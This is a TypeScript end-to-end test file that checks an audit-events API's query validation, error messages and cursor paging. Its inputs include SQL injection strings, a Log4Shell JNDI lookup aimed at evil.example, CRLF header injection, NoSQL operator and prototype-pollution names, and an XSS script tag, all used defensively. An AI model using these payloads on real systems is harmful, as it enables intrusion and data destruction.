import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { events, expectStory } from '../../e2e/trail.ts';
import { issueTicket } from '../../e2e/visitor.ts';
import { startEmbedded } from '../../stack/embedded.ts';
import type { Stack } from '../../stack/stack.ts';
import { askRaw, type RawAnswer } from './ask-raw.ts';

const EVENTS = '/api/v1/audit/events';

let stack: Stack;
let operator: string;

beforeAll(async () => {
  stack = await startEmbedded();
  operator = await stack.operatorToken();
  const { ticketId } = await issueTicket(stack);
  await expectStory(stack, { ticket: ticketId }, ['admit.ticket.issued']);
});

afterAll(async () => {
  expect(stack.logs()).not.toMatch(/"severity":"(ERROR|CRITICAL)"/);
  await stack.stop();
});

/** Asks for a path as it is, with nothing encoded that was not. */
function ask(target: string): Promise<RawAnswer> {
  return askRaw(stack.audit, `GET ${target} HTTP/1.1`, ['Host: test', `Authorization: Bearer ${operator}`]);
}

function cursorOf(...place: readonly unknown[]): string {
  return Buffer.from(JSON.stringify(place)).toString('base64url');
}

const facts = ['ticket', 'session', 'user', 'connection', 'reason'] as const;
const texts = [
  "' OR '1'='1",
  "'; DROP TABLE event; --",
  "x' UNION SELECT version() --",
  '$1',
  '%',
  '\\',
  'a\r\nSet-Cookie: b=c',
  '\u001b[31m',
  '\0',
  '\ufffd',
  '{"$ne":null}',
  `\${jndi:ldap://evil.example/a}`,
  '<script>alert(1)</script>',
];

describe('a search for what is not there finds nothing', () => {
  test.each(facts.flatMap((fact) => texts.map((text) => [fact, text])))('%s %j', async (fact, text) => {
    const answer = await ask(`${EVENTS}?${fact}=${encodeURIComponent(text)}`);
    expect(answer.status).toBe(200);
    expect(JSON.parse(answer.body)).toEqual({ events: [], next: null });
    expect(Object.keys(answer.headers)).not.toContain('set-cookie');
  });
});

describe('a query is refused by the name of its parameter', () => {
  const cursor = 'cursor must be what a page gave as next.';
  const time = (name: string) =>
    `${name} must be a date and time of RFC 3339, such as 2026-01-31T12:00:00Z; in a URL, + is %2B.`;
  const unknown = (name: string) => `There is no parameter ${JSON.stringify(name)} here, only type, `;

  test.each<[query: string, detail: string]>([
    ...[
      '0',
      '-1',
      '1001',
      '1e9',
      'NaN',
      'Infinity',
      '1.5',
      '',
      '%20',
      '1%00',
      '1;DROP%20TABLE%20event',
      '9'.repeat(400),
    ].map((limit): [string, string] => [`limit=${limit}`, 'limit must be ']),
    ['limit=1&limit=2', 'limit must be '],
    ...['', 'asc;', 'ASC', 'asc,desc', '1%20OR%201=1'].map((order): [string, string] => [
      `order=${order}`,
      'order must be one of asc, desc.',
    ]),
    ...['', 'x', 'admit.*', 'admit.ticket.issued%00', "admit.ticket.issued'--"].map(
      (type): [string, string] => [`type=${type}`, 'type must be one of '],
    ),
    [
      Array.from({ length: 51 }, () => 'type=admit.ticket.issued').join('&'),
      'type must NOT have more than 50 items.',
    ],
    ...(['from', 'to'] as const).flatMap((name) =>
      [
        ...[
          '',
          'now',
          '0',
          '1790000000',
          '2026-13-01T00:00:00Z',
          '2026-01-32T00:00:00Z',
          '2026-02-29T00:00:00Z',
          '2026-01-01',
          '2026-01-01T25:00:00Z',
        ],
        ...[
          '2026-01-01T00:00:00',
          '2026-01-01T00:00:00+99:99',
          '+275760-09-13T00:00:00Z',
          '-000001-01-01T00:00:00Z',
          "2026-01-01T00:00:00Z'--",
          '2026-01-01T00:00:00Z%00',
          '2026-12-31T23:59:60Z',
          'infinity',
        ],
      ].map((value): [string, string] => [`${name}=${value}`, time(name)]),
    ),
    ['from=2026-01-01T00:00:00Z&from=2026-01-01T00:00:00Z', 'from must be '],
    ...facts.map((fact): [string, string] => [`${fact}=`, `${fact} must NOT have fewer than 1 characters.`]),
    ...facts.map((fact): [string, string] => [
      `${fact}=${'x'.repeat(513)}`,
      `${fact} must NOT have more than 512 characters.`,
    ]),
    ...facts.map((fact): [string, string] => [`${fact}=a&${fact}=b`, `${fact} must be string.`]),
    ...[
      '',
      'x',
      '%00',
      '..%2f..',
      'W10',
      cursorOf(),
      cursorOf(0),
      cursorOf(null, null, null, null),
      '['.repeat(4_000),
    ].map((value): [string, string] => [`cursor=${value}`, cursor]),
    [`cursor=${cursorOf(0, 'p00.x', '1', 'id')}`, cursor],
    [`cursor=${cursorOf(0, 'p00.x', '0000000000000001', 'id', 'more')}`, cursor],
    [`cursor=${cursorOf(0, 'p00.\0', '0000000000000001', 'id')}`, cursor],
    [`cursor=${cursorOf(0, ["p00'"], '0000000000000001', 'id')}`, cursor],
    [`cursor=${cursorOf(0.5, 'p00.x', '0000000000000001', 'id')}`, cursor],
    [`cursor=${cursorOf('now', 'p00.x', '0000000000000001', 'id')}`, cursor],
    [`cursor=${cursorOf(8.64e15, 'p00.x', '0000000000000001', 'id')}`, cursor],
    [`cursor=${cursorOf(-8.64e15, 'p00.x', '0000000000000001', 'id')}`, cursor],
    [`cursor=${'x'.repeat(4_097)}`, 'cursor must NOT have more than 4096 characters.'],
    ...[
      'users',
      'Type',
      'user[]',
      'user%5B%24ne%5D',
      '__proto__',
      'constructor',
      'toString',
      'access_token',
      '%zz',
      '%00',
    ].map((name): [string, string] => [`${name}=x`, 'There is no parameter ']),
    [`${'x'.repeat(5_000)}=x`, unknown('x'.repeat(64))],
    ['limit', 'limit must be '],
    ['=x', unknown('')],
  ])('?%s', async (query, detail) => {
    const { status, headers, problem, body } = await ask(`${EVENTS}?${query}`);
    expect(problem, body.slice(0, 300)).toMatchObject({
      status: 400,
      code: 'INVALID_REQUEST',
      detail: expect.stringContaining(detail),
    });
    expect(status).toBe(400);
    expect(headers).toMatchObject({ 'cache-control': 'no-store', 'x-content-type-options': 'nosniff' });
    expect(problem?.detail.length).toBeLessThan(700);
  });

  test('and where there are none, too', async () => {
    expect(await ask('/api/v1/audit/sequences?limit=1')).toMatchObject({
      status: 400,
      problem: { code: 'INVALID_REQUEST', detail: 'There is no parameter "limit" here, only incomplete.' },
    });
  });
});

describe('a query that is odd is answered', () => {
  test.each([
    'from=0000-01-01T00:00:00Z&to=9999-12-31T23:59:59.999Z',
    'from=9999-12-31T23:59:59Z&to=0000-01-01T00:00:00Z',
    'from=2026-01-01T00:00:00.123456789012345678901234567890Z',
    'from=2026-01-01t00:00:00z',
    'from=2026-01-01T00:00:00-23:59',
    'limit=1000&order=desc',
    'limit=0x10',
    'limit=1e2',
    'type=admit.ticket.issued&type=admit.ticket.issued',
    `cursor=${cursorOf(0, "p00' OR 1=1 --", '9999999999999999', '\ud800')}`,
    `user=${'%F0%9F%98%80'.repeat(250)}`,
    'user=%ff%fe',
    'user=%zz',
    '&&&',
  ])('?%s', async (query) => {
    const answer = await ask(`${EVENTS}?${query}`);
    expect(answer.status, answer.body.slice(0, 300)).toBe(200);
    expect(JSON.parse(answer.body)).toMatchObject({ events: expect.any(Array) });
  });

  test('a cursor that was cut, or that another page gave, is refused or goes on behind its place, and no further', async () => {
    const all = await events(stack, {});
    const page = JSON.parse((await ask(`${EVENTS}?limit=1`)).body) as { next: string };
    for (let length = 0; length < page.next.length; length += 1) {
      const cut = await ask(`${EVENTS}?cursor=${page.next.slice(0, length)}`);
      expect(cut).toMatchObject({ status: 400, problem: { code: 'INVALID_REQUEST' } });
    }
    const rest = JSON.parse((await ask(`${EVENTS}?type=admit.ticket.issued&cursor=${page.next}`)).body);
    const expected = all.slice(1).filter(({ type }) => type === 'admit.ticket.issued');
    expect(rest.events).toEqual(expected);
  });
});
